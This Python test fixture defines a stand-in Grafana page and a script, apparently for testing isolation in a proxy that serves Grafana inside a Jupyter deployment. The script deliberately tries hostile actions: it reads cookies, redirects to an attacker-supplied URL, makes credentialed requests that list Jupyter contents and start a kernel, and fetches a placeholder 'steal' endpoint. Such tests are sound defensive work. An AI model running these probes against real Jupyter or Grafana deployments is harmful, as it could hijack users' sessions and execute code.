"""The page that the stand-in for Grafana answers with."""

PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Grafana</title><base href="{sub}/"></head>
<body><h1 id="drawn">…</h1><ul id="tried"></ul>
<script nonce="abc">window.grafanaBootData = {"settings":{"appSubUrl":"{sub}","appUrl":"http://localhost:3000{sub}/",
"buildInfo":{"version":"{version}"},"datasources":{"Prometheus":{"url":"{sub}/api/datasources/proxy/1",
"jsonData":{"directUrl":"http://10.0.0.7:9090"}}}}};</script>
<script nonce="abc" src="public/app.js"></script></body></html>"""
"""A page in the form of Grafana's: a base, boot data with addresses, scripts with a nonce."""

SCRIPT = """
const leave = new URLSearchParams(location.search).get('var-leave');
if (leave) { location.href = leave; }
const boot = window.grafanaBootData.settings;
const tried = {};
localStorage.setItem('theme', 'dark');
tried.storage = localStorage.getItem('theme');
tried.cookie = document.cookie;
tried.origin = self.origin;
try { tried.parent = parent.document.title; } catch (error) { tried.parent = error.name; }
const asked = async (name, url, options) => {
  try {
    const answer = await fetch(url, options);
    tried[name] = `${answer.status} ${(await answer.text()).slice(0, 40)}`;
  } catch (error) { tried[name] = error.name; }
};
const root = boot.appSubUrl.split('/pangeo/pages/')[0];
const json = { 'Content-Type': 'application/json', 'X-Panel-Id': '1' };
const body = JSON.stringify({ queries: [{ refId: 'A', expr: 'up' }] });
Promise.all([
  asked('query', `${boot.datasources.Prometheus.url}/api/v1/query?query=1`),
  asked('post', `${boot.appSubUrl}/api/ds/query`, { method: 'POST', headers: json, body }),
  asked('contents', `${root}/api/contents`, { credentials: 'include' }),
  asked('kernel', `${root}/api/kernels`, { method: 'POST', credentials: 'include', body: '{}' }),
  asked('elsewhere', 'http://127.0.0.1:9/steal')
]).then(() => {
  for (const [name, value] of Object.entries(tried).sort()) {
    const item = document.createElement('li');
    item.textContent = `${name}: ${value}`;
    document.getElementById('tried').append(item);
  }
  document.getElementById('drawn').textContent = `Drawn ${location.search}`;
  history.pushState({}, '', location.href);
});
"""
"""What a page of Grafana's does: storage, queries by GET and POST; and what a hostile one would try."""
